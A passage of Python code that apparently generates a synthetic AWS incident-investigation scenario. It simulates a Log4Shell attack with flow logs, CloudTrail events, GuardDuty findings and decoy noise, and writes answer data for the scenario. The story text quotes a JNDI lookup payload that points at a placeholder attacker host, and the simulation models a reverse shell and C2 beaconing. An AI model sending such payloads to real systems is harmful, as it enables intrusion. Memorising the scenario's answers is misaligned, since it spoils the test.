            lines.append(f"{k} = {toml_val(self.answer[k])}")
        lines.append("")
        lines.append("[noise]")
        for k, v in self.noise.items():
            lines.append(f"{k} = {toml_val(v)}")
        lines.append("")
        for g in groups:
            lines += ["[[groups]]", f"findings = {toml_val(g['findings'])}", f"severity = {toml_val(g['severity'])}",
                      ""]
        write_bytes(d / "scenario.toml", ("\n".join(lines).rstrip() + "\n").encode())
        self.slices = slices
        return {"slices": slices, "groups": groups}


ORDER = {"log4shell-c2": 1, "dns-c2-exfil": 2, "iam-credential-chain": 3}


# --------------------------------------------------------------------------------------------------
# scenario 1: log4shell-c2


def log4shell(out: Path) -> Scenario:
    rng = Rng(20250311)
    acct, region = "483920174655", "us-east-1"
    start, end = ts("2025-03-11T08:00:00Z"), ts("2025-03-11T14:00:00Z")
    w = World(rng, acct, region, [region])
    sc = Scenario("log4shell-c2", "Log4Shell on the shop's web tier: JNDI callback, reverse shell, C2 beacon",
                  "An attacker sends a ${jndi:ldap://…} payload to the public shop's login form. One of two "
                  "identical Tomcat instances behind the ALB calls back to the attacker's LDAP server, downloads a "
                  "payload, opens a reverse shell and starts beaconing to a C2 domain; the instance role is then "
                  "used for discovery. A scanner and an SSH brute-forcer hit the bastion at the same time, and "
                  "someone generated a GuardDuty sample finding that morning.", w, start, end, rng)
    sc.story = [
        "08:36 alice.chen generates a GuardDuty sample finding (Backdoor:EC2/Spambot) from the console.",
        "08:47-10:55 an internet scanner probes the bastion's open SSH port (Recon:EC2/PortProbeUnprotectedPort).",
        "09:31-09:44 an SSH brute-force run against the bastion (UnauthorizedAccess:EC2/SSHBruteForce); no login.",
        "10:02:14 203.0.113.45 posts a ${jndi:ldap://203.0.113.45:1389/Basic/Command/Base64/…} username through the ALB.",
        "10:02:15 shop-web (web-1) connects to 203.0.113.45:1389 (LDAP) and :8000 (the class file), then :80 (payload).",
        "10:02:58 the payload runs from /var/tmp/.cache/sysupdate; 10:03:05 a reverse shell to 203.0.113.45:4444.",
        "10:04:50 web-1 resolves api.telemetry-sync.example (198.51.100.77) and beacons to it every minute.",
        "10:12-10:19 the attacker uses web-1's instance-role credentials from the instance for discovery.",
        "Response: notify, snapshot web-1, quarantine web-1 (both ENIs). Not web-2 (healthy twin), not the bastion.",
    ]
    G = {
        "203.0.113.45": geo("64501", "EXAMPLE-VPS-AS", "Example VPS Hosting B.V.", "Netherlands", "Amsterdam",
                            52.3740, 4.8897),
        "198.51.100.77": geo("64502", "EXAMPLE-BULLETPROOF", "Example Offshore Hosting Ltd", "Seychelles",
                             "Victoria", -4.6191, 55.4513),
        "198.51.100.23": geo("64510", "EXAMPLE-RESEARCH-SCAN", "Example Internet Research GmbH", "Germany",
                             "Frankfurt am Main", 50.1109, 8.6821),
        "198.51.100.24": geo("64510", "EXAMPLE-RESEARCH-SCAN", "Example Internet Research GmbH", "Germany",
                             "Frankfurt am Main", 50.1109, 8.6821),
        "198.51.100.131": geo("64511", "EXAMPLE-CLOUD-VPS", "Example Cloud Servers Inc", "Brazil", "Sao Paulo",
                              -23.5475, -46.6361),
        "192.0.2.44": dict(AMAZON, country="United States", city="Ashburn", lat=39.0437, lon=-77.4875),
    }
    sc.gd.geo = G
    azid = {"us-east-1a": "use1-az4", "us-east-1b": "use1-az6"}

    # the account ---------------------------------------------------------------------------------
    w.add_vpc("shop-prod", "10.20.0.0/16")
    w.add_subnet("shop-public-a", "shop-prod", "10.20.0.0/24", "us-east-1a", True)
    w.add_subnet("shop-public-b", "shop-prod", "10.20.1.0/24", "us-east-1b", True)
    w.add_subnet("shop-app-a", "shop-prod", "10.20.10.0/24", "us-east-1a", False)
    w.add_subnet("shop-app-b", "shop-prod", "10.20.11.0/24", "us-east-1b", False)
    w.add_subnet("shop-data-a", "shop-prod", "10.20.20.0/24", "us-east-1a", False)
    w.add_sg("bastion", "shop-prod", "SSH bastion",
             [("tcp", 22, 22, "0.0.0.0/0", "SSH from anywhere (temporary, see OPS-2291)")])
    w.add_sg("shop-alb", "shop-prod", "Public ALB for the shop",
             [("tcp", 443, 443, "0.0.0.0/0", "HTTPS from the internet"),
              ("tcp", 80, 80, "0.0.0.0/0", "HTTP, redirected to HTTPS")])
    w.add_sg("shop-web", "shop-prod", "Tomcat web tier, front ENI",
             [("tcp", 8080, 8080, "sg:shop-alb", "Tomcat from the ALB"), ("tcp", 22, 22, "sg:bastion", "SSH from the bastion")])
    w.add_sg("shop-web-backend", "shop-prod", "Tomcat web tier, backend ENI",
             [("tcp", 22, 22, "sg:bastion", "SSH from the bastion")])
    w.add_sg("shop-db", "shop-prod", "PostgreSQL on EC2",
             [("tcp", 5432, 5432, "sg:shop-web-backend", "PostgreSQL from the web tier"),
              ("tcp", 5432, 5432, "10.20.10.0/24", "PostgreSQL from batch"),
              ("tcp", 22, 22, "sg:bastion", "SSH from the bastion")])
    w.add_sg("shop-batch", "shop-prod", "Nightly batch workers", [])
    nat = w.add_nat("shop-public-a", "10.20.0.100", "192.0.2.20")
    w.add_role("web-tier-role", instance_profile=True, description="Tomcat web tier")
    w.add_role("bastion-role", instance_profile=True, description="SSM for the bastion")
    w.add_role("batch-role", instance_profile=True, description="Batch workers")
    w.add_role("db-role", instance_profile=True, description="SSM and backups for the database host")
    w.add_role("ci-deploy-role", trust="token.actions.githubusercontent.com", description="GitHub Actions deploys")
    w.add_role("metrics-collector-role", trust="arn:aws:iam::777788889999:root",
               description="Read-only role for the observability vendor")
    w.add_role("AWSServiceRoleForConfig", path="/aws-service-role/config.amazonaws.com/", trust="config.amazonaws.com")
    ami = "ami-0" + rng.hexs(16)
    web1 = w.add_instance("shop-web", "t3.large", "shop-public-a", "10.20.0.37", ["shop-web"], "192.0.2.44",
                          "web-tier-role", "shop-web-asg", [("shop-app-a", "10.20.10.37", ["shop-web-backend"])],
                          launched="2025-03-09T22:14:05Z", image=ami, tags={"env": "prod", "app": "shop", "tier": "web"})
    web2 = w.add_instance("shop-web", "t3.large", "shop-public-b", "10.20.1.52", ["shop-web"], "192.0.2.61",
                          "web-tier-role", "shop-web-asg", [("shop-app-b", "10.20.11.52", ["shop-web-backend"])],
                          launched="2025-03-10T06:40:51Z", image=ami, tags={"env": "prod", "app": "shop", "tier": "web"})
    bastion = w.add_instance("bastion", "t3.micro", "shop-public-a", "10.20.0.10", ["bastion"], "192.0.2.10",
                             "bastion-role", launched="2024-11-02T09:12:40Z", image="ami-0" + rng.hexs(16),
                             tags={"env": "prod", "tier": "admin"})
    batch = w.add_instance("shop-batch", "m6i.large", "shop-app-a", "10.20.10.80", ["shop-batch"], None,
                           "batch-role", launched="2025-02-20T03:00:12Z", image="ami-0" + rng.hexs(16),
                           tags={"env": "prod", "app": "shop", "tier": "batch"})
    db = w.add_instance("shop-db", "r6i.large", "shop-data-a", "10.20.20.15", ["shop-db"], None, "db-role",
                        volumes=(("/dev/xvda", 30), ("/dev/sdf", 200)), launched="2024-09-14T11:30:00Z",
                        image="ami-0" + rng.hexs(16), tags={"env": "prod", "app": "shop", "tier": "data"})
    tg_arn = f"arn:aws:elasticloadbalancing:{region}:{acct}:targetgroup/shop-web-tg/{rng.hexs(16)}"
    alb = {"name": "shop-alb", "arn": f"arn:aws:elasticloadbalancing:{region}:{acct}:loadbalancer/app/shop-alb/"
           f"{rng.hexs(16)}", "type": "application", "scheme": "internet-facing",
           "dns_name": f"shop-alb-{rng.randint(100000000, 999999999)}.{region}.elb.amazonaws.com",
           "vpc_id": w.vpc["shop-prod"]["vpc_id"],
           "subnets": [w.subnet["shop-public-a"]["subnet_id"], w.subnet["shop-public-b"]["subnet_id"]],
           "security_groups": [w.sg["shop-alb"]["group_id"]],
           "enis": [{"eni_id": rng.aws_id("eni"), "private_ip": "10.20.0.200",
                     "subnet_id": w.subnet["shop-public-a"]["subnet_id"]},
                    {"eni_id": rng.aws_id("eni"), "private_ip": "10.20.1.200",
                     "subnet_id": w.subnet["shop-public-b"]["subnet_id"]}],
           "target_groups": [{"arn": tg_arn, "name": "shop-web-tg", "port": 8080, "protocol": "HTTP",
                              "targets": [web1["instance_id"], web2["instance_id"]]}]}
    w.d["load_balancers"].append(alb)
    w.add_asg("shop-web-asg", [web1, web2], 2, 4, 2, {"name": "shop-web-lt", "version": "7"}, [tg_arn])
    alice = w.add_user("alice.chen", "2023-02-14T10:02:11Z", keys=0, console=True, groups=["Admins"])
    w.add_user("bob.martinez", "2023-06-01T08:45:30Z", groups=["Developers"])
    w.add_user("carol.nguyen", "2022-11-21T15:10:02Z", groups=["Ops"])
    for b, pol in (("shop-static-assets-" + acct, True), ("shop-app-logs-" + acct, True),
                   ("acme-cloudtrail-" + acct, True), ("shop-db-backups-" + acct, False)):
        w.d["buckets"].append({"name": b, "region": region, "arn": f"arn:aws:s3:::{b}", "policy": pol})
    topic = f"arn:aws:sns:{region}:{acct}:security-alerts"
    w.d["sns_topics"].append({"arn": topic, "name": "security-alerts"})
    trail_arn = f"arn:aws:cloudtrail:{region}:{acct}:trail/management-events"
    w.d["trails"].append({"name": "management-events", "arn": trail_arn, "home_region": region,
                          "s3_bucket": "acme-cloudtrail-" + acct, "is_logging": True, "multi_region": True})
    det = w.detector_id(region)
    secret_arn = f"arn:aws:secretsmanager:{region}:{acct}:secret:prod/shop/db-{rng.of(ALNUM, 6)}"
    kms_key = rng.uuid()

    T = sc.trail
    fl = Flows(rng, w, "shop-prod", V2_FIELDS, 2, region, azid)
    fl.limit = end
    sc.flows.append(fl)
    dn = Dns(rng, w, "shop-prod", region)
    sc.dns.append((dn, None))

    # background: instance credentials, SSM, the app ---------------------------------------------
    sess = {}
    for inst in (web1, web2, bastion, batch, db):
        ip = inst["public_ip"] or nat["public_ip"]
        sess[inst["instance_id"]] = instance_session(w, T, inst, start, end, "2.0", ip)
        ssm_agent(T, sess[inst["instance_id"]], inst, start, end)
    app_ua = "aws-sdk-java/2.25.11 Linux/6.1.79-99.167.amzn2023.x86_64 OpenJDK_64-Bit_Server_VM/11.0.22+7-LTS Java/11.0.22 vendor/Amazon.com_Inc. exec-env/AWS_EC2 io/sync http/Apache cfg/retry-mode/legacy"
    for inst in (web1, web2):
        app = Actor("AssumedRole", inst["public_ip"], app_ua, role=w.role["web-tier-role"],
                    session=inst["instance_id"], creds=sess[inst["instance_id"]].creds, delivery="2.0", account=acct)
        for t in periodic(rng, start, end, 900, 60):
            read_call(T, t, app, "GetSecretValue", secret=secret_arn)
            kms_decrypt(T, t + 1, app, kms_key, {"SecretARN": secret_arn, "SecretVersionId": "7c1c5b2e-5f5d-4f7e-9e0b-41f1d6a0c9d2"})
        for t in periodic(rng, start, end, 1800, 60):
            read_call(T, t, app, "GetParameters", names=["/shop/prod/feature-flags", "/shop/prod/payment-endpoint"])
    batch_app = Actor("AssumedRole", nat["public_ip"], app_ua, role=w.role["batch-role"],
                      session=batch["instance_id"], creds=sess[batch["instance_id"]].creds, delivery="2.0",
                      account=acct)
    for t in periodic(rng, start, end, 600, 60):
        read_call(T, t, batch_app, "GetSecretValue", secret=secret_arn)
        kms_decrypt(T, t + 1, batch_app, kms_key, {"SecretARN": secret_arn})
    cfg = role_session(w, rng, "AWSServiceRoleForConfig", "AWSConfig-Describe", start, end, "config.amazonaws.com",
                       CONFIG_UA, "service-linked")
    config_sweeps(T, cfg, start, end, every=600)
    mc = role_session(w, rng, "metrics-collector-role", "collector-7f3a9c", start, end, "192.0.2.230",
                      "aws-sdk-go/1.51.12 (go1.21.8; linux; amd64) observability-agent/7.52", "assumed-role",
                      period=3600, lifetime=3600)
    for t in periodic(rng, start, end, 200, 20):
        read_call(T, t, mc, "GetMetricData")
        read_call(T, t + 1, mc, "DescribeInstances")
        read_call(T, t + 2, mc, "DescribeTargetHealth", tg=tg_arn)
        if rng.random() < 0.5:
            read_call(T, t + 3, mc, "DescribeLoadBalancers")

    # humans --------------------------------------------------------------------------------------
    al = console_user(w, rng, "alice.chen", "192.0.2.201", [ts("2025-03-11T08:21:07Z")])
    console_login(T, al, ts("2025-03-11T08:21:07Z"))
    console_menu = [("DescribeInstances", {}), ("DescribeInstanceStatus", {}), ("DescribeAlarms", {}),
                    ("GetMetricData", {}), ("DescribeTargetHealth", {"tg": tg_arn}), ("DescribeLoadBalancers", {}),
                    ("DescribeAutoScalingGroups", {"asgs": ["shop-web-asg"]}), ("ListBuckets", {}),
                    ("DescribeSecurityGroups", {}), ("ListDetectors", {}), ("GetDetector", {"detector": det})]
    for t0, n in ((ts("2025-03-11T08:22:30Z"), 25), (ts("2025-03-11T09:41:00Z"), 18),
                  (ts("2025-03-11T11:15:20Z"), 22), (ts("2025-03-11T13:02:00Z"), 15)):
        human_burst(T, al, t0, n, console_menu, 25)
    sample_t = ts("2025-03-11T08:36:02Z")
    T.ev(sample_t, al, "guardduty.amazonaws.com", "CreateSampleFindings",
         req={"detectorId": det, "findingTypes": ["Backdoor:EC2/Spambot"]}, resp=None, read_only=False)
    bob = cli_user(w, "bob.martinez", "2001:db8:4a1:2c00::17", CLI_UA.format(cmd="logs.filter-log-events"))
    for t0 in (ts("2025-03-11T09:05:00Z"), ts("2025-03-11T10:48:00Z"), ts("2025-03-11T13:20:00Z")):
        human_burst(T, bob, t0, 14, [("FilterLogEvents", {"group": "/shop/prod/tomcat"}), ("DescribeLogGroups", {}),
                                     ("GetCallerIdentity", {}), ("DescribeInstances", {}),
                                     ("DescribeStacks", {"stack": "shop-web"})], 40)
    carol = cli_user(w, "carol.nguyen", "192.0.2.202", TF_UA)
    tf_menu = [("DescribeVpcs", {}), ("DescribeSubnets", {}), ("DescribeSecurityGroups", {}),
               ("DescribeInstances", {}), ("DescribeLaunchTemplates", {}), ("DescribeLoadBalancers", {}),
               ("DescribeAutoScalingGroups", {"asgs": ["shop-web-asg"]}), ("GetRole", {"role": "web-tier-role"}),
               ("ListAttachedRolePolicies", {"role": "web-tier-role"}), ("ListRolePolicies", {"role": "web-tier-role"}),
               ("GetBucketAcl", {"bucket": "shop-static-assets-" + acct}),
               ("GetBucketVersioning", {"bucket": "shop-static-assets-" + acct}),
               ("GetBucketEncryption", {"bucket": "shop-app-logs-" + acct}), ("DescribeAddresses", {})]
    human_burst(T, carol, ts("2025-03-11T12:04:00Z"), 70, tf_menu, 3)
    human_burst(T, carol, ts("2025-03-11T12:31:00Z"), 55, tf_menu, 3)
    for i, t0 in enumerate((ts("2025-03-11T09:15:10Z"), ts("2025-03-11T12:40:30Z"))):
        ci = role_session(w, rng, "ci-deploy-role", "GitHubActions", t0 + 60, t0 + 61, f"192.0.2.{233 + i}",
                          GHA_UA.format(cmd="cloudformation.deploy"), "web-identity", lifetime=3600)
        t = t0 + 5
        read_call(T, t, ci, "GetCallerIdentity")
        read_call(T, t + 4, ci, "GetAuthorizationToken")
        for k in range(6):
            read_call(T, t + 30 + k * 20, ci, "DescribeStacks", stack="shop-web")
        T.ev(t + 40, ci, "cloudformation.amazonaws.com", "CreateChangeSet",
             req={"stackName": "shop-web", "changeSetName": f"deploy-{rng.hexs(8)}", "changeSetType": "UPDATE",
                  "capabilities": ["CAPABILITY_NAMED_IAM"]},
             resp={"id": f"arn:aws:cloudformation:{region}:{acct}:changeSet/deploy/{rng.uuid()}",
                   "stackId": f"arn:aws:cloudformation:{region}:{acct}:stack/shop-web/{rng.uuid()}"})

    # benign network ------------------------------------------------------------------------------
    eni = {i["instance_id"]: [e["eni_id"] for e in i["enis"]] for i in w.d["instances"]}
    alb_enis = [(e["eni_id"], e["private_ip"]) for e in alb["enis"]]
    webs = [(web1, eni[web1["instance_id"]]), (web2, eni[web2["instance_id"]])]
    clients = [f"192.0.2.{x}" for x in range(150, 200)]
    for t in periodic(rng, start, end, 40, 15):
        aeni, aip = rng.choice(alb_enis)
        fl.conn(aeni, aip, rng.choice(clients), 443, rng.randint(30000, 60999), "tcp", t, rng.randint(1, 40),
                (rng.randint(10, 40), rng.randint(20000, 180000)), (rng.randint(8, 30), rng.randint(2000, 9000)),
                outbound=False)
    for t in periodic(rng, start, end, 150, 40):
        aeni, aip = rng.choice(alb_enis)
        inst, enis = rng.choice(webs)
        lport = rng.randint(30000, 60999)
        pk = (rng.randint(20, 80), rng.randint(9000, 60000))
        bk = (rng.randint(20, 90), rng.randint(40000, 400000))
        fl.conn(aeni, aip, inst["private_ip"], lport, 8080, "tcp", t, 50, pk, bk, outbound=True)
        fl.conn(enis[0], inst["private_ip"], aip, 8080, lport, "tcp", t, 50, bk, pk, outbound=False)
    db_eni = eni[db["instance_id"]][0]
    for inst, enis in webs:
        first = start + 300 if inst is web2 else start
        for t in periodic(rng, first, end, 300, 5, phase=0):
            lport = 40000 + (t // 300) % 2000
            out, back = (rng.randint(200, 600), rng.randint(40000, 90000)), (rng.randint(200, 700), rng.randint(200000, 900000))
            eip = inst["enis"][1]["private_ip"]
            fl.conn(enis[1], eip, db["private_ip"], lport, 5432, "tcp", t, 290, out, back, outbound=True)
            fl.conn(db_eni, db["private_ip"], eip, 5432, lport, "tcp", t, 290, back, out, outbound=False)
    fl.nodata(eni[web2["instance_id"]][1], start, start + 60)
    fl.nodata(eni[web2["instance_id"]][1], start + 60, start + 120)
    ssm_ips = ["52.46.141.24", "52.46.145.233", "52.46.152.12"]
    for inst in (web1, web2, bastion):
        for t in periodic(rng, start, end, 300, 10):
            fl.conn(eni[inst["instance_id"]][0], inst["private_ip"], rng.choice(ssm_ips), rng.randint(32768, 60999),
                    443, "tcp", t, 3, (rng.randint(6, 12), rng.randint(1800, 4200)),
                    (rng.randint(6, 12), rng.randint(4000, 9000)))
    for inst in (batch, db):
        for t in periodic(rng, start, end, 600, 10):
            fl.conn(eni[inst["instance_id"]][0], inst["private_ip"], rng.choice(ssm_ips), rng.randint(32768, 60999),
                    443, "tcp", t, 3, (rng.randint(6, 12), rng.randint(1800, 4200)),
                    (rng.randint(6, 12), rng.randint(4000, 9000)), nat=(nat["eni_id"], nat["private_ip"]))
    fl.row(nat["eni_id"], "-", "-", "-", "-", "tcp", "-", "-", start + 7200, start + 7260)
    fl.rows[-1][2].update({k: "-" for k in ("srcaddr", "dstaddr", "srcport", "dstport", "protocol", "packets",
                                            "bytes", "action")})
    fl.rows[-1][2]["log-status"] = "SKIPDATA"
    for t0 in (ts("2025-03-11T08:30:00Z"), ts("2025-03-11T11:20:00Z")):
        fl.conn(eni[bastion["instance_id"]][0], bastion["private_ip"], "192.0.2.201", 22, rng.randint(50000, 60000),
                "tcp", t0, 1500, (900, 180000), (1100, 95000), outbound=False)
        t1 = t0 + 120
        lport = rng.randint(40000, 60000)
        fl.conn(eni[bastion["instance_id"]][0], bastion["private_ip"], web2["enis"][1]["private_ip"], lport, 22,
                "tcp", t1, 600, (300, 40000), (400, 120000))
        fl.conn(eni[web2["instance_id"]][1], web2["enis"][1]["private_ip"], bastion["private_ip"], 22, lport,
                "tcp", t1, 600, (400, 120000), (300, 40000), outbound=False)

    # benign DNS ----------------------------------------------------------------------------------
    aws_a = {f"ssm.{region}.amazonaws.com": ssm_ips, f"ec2messages.{region}.amazonaws.com": ["52.46.145.9"],
             f"secretsmanager.{region}.amazonaws.com": ["3.218.182.103"], f"sts.{region}.amazonaws.com": ["209.54.177.164"],
             f"kms.{region}.amazonaws.com": ["67.220.241.93"], f"ssm.{region}.amazonaws.com.": ssm_ips}
    for inst in (web1, web2, bastion, batch, db):
        for t in periodic(rng, start, end, 600, 60):
            name = rng.choice([f"ssm.{region}.amazonaws.com", f"ec2messages.{region}.amazonaws.com"])
            dn.q(t, inst, name, answers=[rng.choice(aws_a[name])])
    for inst in (web1, web2):
        for t in periodic(rng, start, end, 900, 60):
            dn.q(t, inst, f"secretsmanager.{region}.amazonaws.com", answers=aws_a[f"secretsmanager.{region}.amazonaws.com"])
            dn.q(t + 1, inst, f"kms.{region}.amazonaws.com", answers=aws_a[f"kms.{region}.amazonaws.com"])
        for t in periodic(rng, start, end, 1200, 120):
            dn.q(t, inst, "shop-db.prod.internal", answers=[db["private_ip"]])
        for t in periodic(rng, start, end, 3600, 300):
            dn.q(t, inst, "api.payments-partner.example", answers=[("CNAME", "edge.payments-partner.example."),
                                                                   ("A", "192.0.2.130")])
    for t in periodic(rng, start, end, 3600, 300):
        dn.q(t, bastion, "al2023-repos-us-east-1-de612dc2.s3.dualstack.us-east-1.amazonaws.com",
             answers=[("CNAME", "s3-r-w.dualstack.us-east-1.amazonaws.com."), ("A", "52.217.171.32")])

    # scanners and brute force (noise) ------------------------------------------------------------
    b_eni = eni[bastion["instance_id"]][0]
    probe_times = []
    for scanner, times in (("198.51.100.23", ["08:47:12", "09:52:40", "10:55:03"]), ("198.51.100.24", ["09:10:31"])):
        for hhmm in times:
            t = ts(f"2025-03-11T{hhmm}Z")
            probe_times.append(t)
            fl.conn(b_eni, bastion["private_ip"], scanner, 22, rng.randint(40000, 65000), "tcp", t, 1, (1, 44),
                    (2, 84), outbound=False)
            for p in (23, 3389, 8080, 5900):
                fl.conn(b_eni, bastion["private_ip"], scanner, p, rng.randint(40000, 65000), "tcp", t + 1, 1,
                        (0, 0), (1, 44), outbound=False, action="REJECT")
            for inst, enis in webs:
                for p in (22, 8080):
                    fl.conn(enis[0], inst["private_ip"], scanner, p, rng.randint(40000, 65000), "tcp", t + 2, 1,
                            (0, 0), (1, 44), outbound=False, action="REJECT")
    bf_first, bf_last = ts("2025-03-11T09:31:40Z"), ts("2025-03-11T09:44:05Z")
    n_bf = 0
    t = bf_first
    while t <= bf_last:
        fl.conn(b_eni, bastion["private_ip"], "198.51.100.131", 22, rng.randint(32768, 60999), "tcp", t, 4,
                (14, 2600), (12, 3100), outbound=False)
        n_bf += 1
        t += rng.randint(4, 9)
    if t - rng.randint(4, 9) < bf_last:
        pass

    # the attack ----------------------------------------------------------------------------------
    A = "203.0.113.45"
    C2, C2_DOMAIN = "198.51.100.77", "api.telemetry-sync.example"
    w1e0, w1e1 = eni[web1["instance_id"]]
    w1ip = web1["private_ip"]
    t_exploit = ts("2025-03-11T10:02:14Z")
    aeni, aip = alb_enis[0]
    fl.conn(aeni, aip, A, 443, 51544, "tcp", t_exploit, 2, (9, 2100), (11, 3400), outbound=False)
    fl.conn(aeni, aip, w1ip, 46112, 8080, "tcp", t_exploit, 2, (8, 2400), (7, 1900))
    fl.conn(w1e0, w1ip, aip, 8080, 46112, "tcp", t_exploit, 2, (7, 1900), (8, 2400), outbound=False)
    t_ldap = t_exploit + 1
    fl.conn(w1e0, w1ip, A, 41822, 1389, "tcp", t_ldap, 1, (6, 512), (5, 1211))
    fl.conn(w1e0, w1ip, A, 41836, 8000, "tcp", t_ldap + 1, 1, (7, 620), (6, 2243))
    t_payload = ts("2025-03-11T10:02:41Z")
    fl.conn(w1e0, w1ip, A, 41840, 80, "tcp", t_payload, 6, (310, 17400), (1730, 2471306))
    t_bin = ts("2025-03-11T10:02:58Z")
    t_shell = ts("2025-03-11T10:03:05Z")
    t_shell_end = ts("2025-03-11T11:41:30Z")
    fl.conn(w1e0, w1ip, A, 41866, 4444, "tcp", t_shell, t_shell_end - t_shell, (3900, 412000), (3400, 268000))
    t_resolve = ts("2025-03-11T10:04:50Z")
    for t in range(t_resolve, end - 30, 300):
        dn.q(t + rng.randint(0, 3), web1, C2_DOMAIN, answers=[C2])
    beacons = periodic(rng, ts("2025-03-11T10:05:00Z"), end - 30, 60, 5, phase=0)
    for t in beacons:
        fl.conn(w1e0, w1ip, C2, rng.randint(32768, 60999), 443, "tcp", t, 1, (7, rng.randint(900, 1400)),
                (6, rng.randint(600, 1100)))

    # discovery with the instance role, from the instance
    atk = Actor("AssumedRole", web1["public_ip"], None, role=w.role["web-tier-role"], session=web1["instance_id"],
                creds=sess[web1["instance_id"]].creds, delivery="2.0", account=acct)
    ua = "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.79-99.167.amzn2023.x86_64 exe/x86_64.amzn.2023 prompt/off command/{}"
    t = ts("2025-03-11T10:12:03Z")
    t_disc = t
    disc_key = atk.cred_at(t)[1]

    def a(api, cmd, gap, **kw):
        nonlocal t
        atk.ua = ua.format(cmd)
        rec = read_call(T, t, atk, api, attack=True, **kw)
        t += gap
        return rec

    a("GetCallerIdentity", "sts.get-caller-identity", 14)
    a("DescribeInstances", "ec2.describe-instances", 9)
    a("DescribeInstances", "ec2.describe-instances", 31, ids=[web1["instance_id"]])
    first_lb = t
    a("ListBuckets", "s3api.list-buckets", 7)
    for b in ("shop-static-assets-" + acct, "shop-db-backups-" + acct, "shop-app-logs-" + acct):
        atk.ua = ua.format("s3api.get-bucket-acl")
        read_call(T, t, atk, "GetBucketAcl", attack=True, bucket=b,
                  error=None if "static" in b else ("AccessDenied", "Access Denied"))
        t += 5
    for api, kw in (("ListRoles", {}), ("ListAttachedRolePolicies", {"role": "web-tier-role"}),
                    ("ListUsers", {})):
        atk.ua = ua.format("iam." + {"ListRoles": "list-roles", "ListUsers": "list-users",
                                     "ListAttachedRolePolicies": "list-attached-role-policies"}[api])
        read_call(T, t, atk, api, attack=True, error=T.denied(atk, t, "iam:" + api,
                  f"arn:aws:iam::{acct}:role/web-tier-role" if "Role" in api and kw else
                  f"arn:aws:iam::{acct}:{'role' if 'Role' in api else 'user'}/"), **kw)
        t += rng.randint(6, 15)
    a("DescribeSecurityGroups", "ec2.describe-security-groups", 12)
    a("DescribeVpcs", "ec2.describe-vpcs", 8)
    a("DescribeSubnets", "ec2.describe-subnets", 20)
    a("DescribeSnapshots", "ec2.describe-snapshots", 11)
    atk.ua = ua.format("secretsmanager.list-secrets")
    read_call(T, t, atk, "ListSecrets", attack=True,
              error=T.denied(atk, t, "secretsmanager:ListSecrets"))
    t += 9
    a("GetSecretValue", "secretsmanager.get-secret-value", 15, secret=secret_arn)
    atk.ua = ua.format("ssm.describe-instance-information")
    read_call(T, t, atk, "DescribeInstanceInformation", attack=True,
              error=T.denied(atk, t, "ssm:DescribeInstanceInformation",
                             f"arn:aws:ssm:{region}:{acct}:*"))
    t += 40
    for _ in range(3):
        a("DescribeInstances", "ec2.describe-instances", rng.randint(20, 60))
    a("ListBuckets", "s3api.list-buckets", 30)
    atk.ua = ua.format("lambda.list-functions")
    read_call(T, t, atk, "ListFunctions20150331", attack=True,
              error=T.denied(atk, t, "lambda:ListFunctions", f"arn:aws:lambda:{region}:{acct}:function:*"))
    t += 20
    a("DescribeRegions", "ec2.describe-regions", 5)
    t_disc_last = t

    # findings ------------------------------------------------------------------------------------
    gd = sc.gd
    gd.add_sample("Backdoor:EC2/Spambot", 5, region, sample_t + 18,
                  "Unusual outbound communication on port 25 from EC2 instance i-99999999.",
                  "EC2 instance i-99999999 is behaving in a manner that may indicate it is being used to send spam.",
                  {"actionType": "NETWORK_CONNECTION", "networkConnectionAction": {
                      "connectionDirection": "OUTBOUND", "remoteIpDetails": gd.sample_remote(),
                      "remotePortDetails": {"port": 25, "portName": "SMTP"},
                      "localPortDetails": {"port": 2000, "portName": "Unknown"}, "protocol": "TCP",
                      "blocked": False}},
                  note="A GuardDuty sample (CreateSampleFindings by alice.chen at 08:36): placeholders, not evidence.")
    probe_first, probe_last = min(probe_times), max(probe_times)
    gd.add("Recon:EC2/PortProbeUnprotectedPort", 2, region, gd.instance_details(bastion),
           gd.probe_action([(22, "SSH", bastion["private_ip"], "198.51.100.23"),
                            (22, "SSH", bastion["private_ip"], "198.51.100.24")]),
           probe_first, probe_last, 4, probe_first + 921, probe_last + 388,
           f"Unprotected port on EC2 instance {bastion['instance_id']} is being probed.",
           f"EC2 instance {bastion['instance_id']} has an unprotected port which is being probed by a known "
           f"malicious host.", "FlowLogs", additional={"threatName": "Scanner", "threatListName": "ProofPoint"},
           note="Internet scanners probing the bastion's open SSH port: background noise, not this incident.")
    gd.add("UnauthorizedAccess:EC2/SSHBruteForce", 2, region, gd.instance_details(bastion),
           gd.net_action("INBOUND", "198.51.100.131", 50112, "Unknown", 22, "SSH", bastion["private_ip"]),
           bf_first, bf_last, n_bf, bf_last + 487, bf_last + 487,
           f"198.51.100.131 is performing SSH brute force attacks against {bastion['instance_id']}.",
           f"198.51.100.131 is performing SSH brute force attacks against {bastion['instance_id']}. Brute force "
           f"attacks are used to gain unauthorized access to your instance by guessing the SSH password.",
           "FlowLogs", note="Password guessing against the bastion; no session followed. Noise.")
    gd.add("UnauthorizedAccess:EC2/MaliciousIPCaller.Custom", 5, region, gd.instance_details(web1),
           gd.net_action("OUTBOUND", A, 1389, "Unknown", 41822, "Unknown", w1ip),
           t_ldap, t_shell, 4, t_ldap + 446, t_shell_end + 300,
           f"Outbound communication with an IP address on a custom threat list from EC2 instance "
           f"{web1['instance_id']}.",
           f"EC2 instance {web1['instance_id']} is communicating outbound with IP address {A} that is on the "
           f"custom threat list vigil-intel.", "FlowLogs",
           additional={"threatListName": "vigil-intel"},
           evidence={"threatIntelligenceDetails": [{"threatListName": "vigil-intel", "threatNames": ["log4shell-exploit-server"]}]},
           note="web-1 called out to the exploit server on 1389/tcp (LDAP) seconds after the JNDI payload hit the ALB.")
    lineage = [{"name": "java", "executablePath": "/usr/lib/jvm/java-11-amazon-corretto.x86_64/bin/java",
                "pid": 1873, "namespacePid": 1873, "userId": 996, "euid": 996, "uuid": rng.uuid(),
                "parentUuid": rng.uuid(), "startTime": "2025-03-09T22:16:41Z"},
               {"name": "systemd", "executablePath": "/usr/lib/systemd/systemd", "pid": 1, "namespacePid": 1,
                "userId": 0, "euid": 0, "uuid": rng.uuid(), "startTime": "2025-03-09T22:14:33Z"}]
    gd.add("Execution:Runtime/NewBinaryExecuted", 5, region, gd.instance_details(web1), None,
           t_bin, t_bin, 1, t_bin + 43, t_bin + 43,
           f"A newly created or recently modified file was executed in EC2 instance {web1['instance_id']}.",
           f"A newly created or recently modified file /var/tmp/.cache/sysupdate was executed by process "
